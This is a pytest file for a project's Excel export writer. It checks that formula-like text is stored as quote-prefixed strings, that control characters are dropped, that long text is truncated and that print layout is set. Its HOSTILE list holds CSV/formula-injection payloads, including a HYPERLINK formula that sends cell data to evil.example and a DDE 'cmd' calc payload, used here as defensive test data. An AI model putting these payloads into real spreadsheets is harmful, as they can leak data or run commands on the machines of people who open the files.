"""core.excel's writer: what a stored value can do to an export (nothing)."""
import datetime
import io
import zipfile

from openpyxl import load_workbook

from core.excel import build_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A5&B5,"点击核对")',
    "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "－2", "＠SUM(A1)",
]


def _read(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_text_that_looks_like_a_formula_is_a_quote_prefixed_string_shown_unchanged():
    content = build_workbook(title="t", notes=[], headers=["h"], rows=([v] for v in HOSTILE))
    sheet = _read(content)
    cells = [sheet.cell(row=3 + i, column=1) for i in range(len(HOSTILE))]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    # A CR is written as LF (what Excel's Alt+Enter is), so what reads back is what was written.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    # quotePrefix: editing the cell in Excel and pressing Enter keeps it text, not a live formula.
    assert all(c.quotePrefix for c in cells)
    assert "<f>" not in _sheet_xml(content)  # no formula element anywhere in the sheet


def test_plain_text_has_no_quote_prefix_and_titles_notes_and_headers_are_protected_too():
    content = build_workbook(title="=title", notes=["+note"], headers=["-h", "ok"], rows=[["三组 12 号", "a-b"]])
    sheet = _read(content)
    assert [sheet["A1"].quotePrefix, sheet["A2"].quotePrefix, sheet["A3"].quotePrefix] == [True, True, True]
    assert (sheet["B3"].quotePrefix, sheet["A4"].quotePrefix, sheet["B4"].quotePrefix) == (False, False, False)
    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", "=title")


def test_control_characters_and_xml_non_characters_are_dropped_not_fatal():
    content = build_workbook(title="t\x01", notes=["n\x0b"], headers=["h\x00"],
                             rows=[["三组\x0b12号", 3], ["\ufffe备注\uffff\x1f", None]])
    sheet = _read(content)
    assert (sheet["A4"].value, sheet["B4"].value, sheet["A5"].value) == ("三组12号", 3, "备注")
    assert (sheet["A1"].value, sheet["A2"].value, sheet["A3"].value) == ("t", "n", "h")


def test_text_past_excels_cell_limit_is_cut_with_a_marker_instead_of_a_broken_file():
    content = build_workbook(title="t", notes=[], headers=["h"], rows=[["x" * 40000]])
    value = _read(content)["A3"].value
    assert len(value) <= 32767 and value.endswith("…[截断]")


def test_numbers_dates_and_values_excel_cannot_hold():
    rows = [[1, 2.5, datetime.date(2024, 3, 1), datetime.date(1899, 1, 1), float("nan"), float("inf"), True]]
    sheet = _read(build_workbook(title="t", notes=[], headers=["h"], rows=rows))
    values = [c.value for c in sheet[3]]
    assert values[:3] == [1, 2.5, datetime.datetime(2024, 3, 1)]
    assert values[3:] == ["1899-01-01", "nan", "inf", True]


def test_sheet_titles_excel_refuses_are_cleaned():
    sheet = _read(build_workbook(title="t", notes=[], headers=["h"], rows=[], sheet_title="名册[1]/2:*?" + "x" * 40))
    assert sheet.title.startswith("名册-1--2---") and len(sheet.title) == 31


def test_every_xlsx_the_project_writes_goes_through_core_excel():
    """An export written with openpyxl or XlsxWriter directly would skip every rule above."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "core/excel/", "bench/")):
            continue
        text = path.read_text(encoding="utf-8")
        if "xlsxwriter" in text.lower() or "from openpyxl import Workbook" in text or "Workbook(" in text:
            offenders.append(relative)
    assert offenders == []


def test_every_sheet_prints_on_a4_landscape_fit_to_width_with_the_header_on_every_page():
    """Printed from a spreadsheet program, a township's list was 33 A4 pages of about 4 columns with the
    header once. Every export and report sheet now has its page set up (core.excel.SheetWriter)."""
    import io as _io

    from openpyxl import load_workbook as _load

    from core.excel import Sheet, build_workbook_sheets

    headers = ["姓名", "身份证号（脱敏）", "村/社区", "计划生育时间", "末次随访日期", "专人", "备注说明"]
    content = build_workbook_sheets([
        Sheet(title="城关镇 育龄夫妇名册", notes=["共 40 行"], headers=headers,
              rows=[[f"户{n}", "110105********002X", "东村", "一年内", None, "张丽", ""] for n in range(40)],
              widths=[4] * len(headers), sheet_title="名册"),
        Sheet(title="第二页", notes=[], headers=["镇/街道", "得分"], rows=[["城关镇", 90]], sheet_title="得分"),
    ])
    book = _load(_io.BytesIO(content))
    for sheet, header_row, last_row in ((book["名册"], 3, 43), (book["得分"], 2, 3)):
        setup = sheet.page_setup
        assert setup.orientation == "landscape" and setup.paperSize == 9  # A4
        # fitToWidth is absent when 1 (the OOXML default); fitToHeight 0 = as many pages down as needed
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and setup.fitToWidth in (None, 1) and setup.fitToHeight == 0
        assert sheet.print_title_rows == f"${header_row}:${header_row}"  # the header row on every page
        assert sheet.auto_filter.ref.startswith(f"A{header_row}:") and sheet.auto_filter.ref.endswith(str(last_row))
    names = book["名册"]
    for index, header in enumerate(headers):
        letter = "ABCDEFG"[index]
        # A CJK character is two widths: no header is cut, however narrow the column was asked to be.
        assert names.column_dimensions[letter].width >= 2 * len(header)
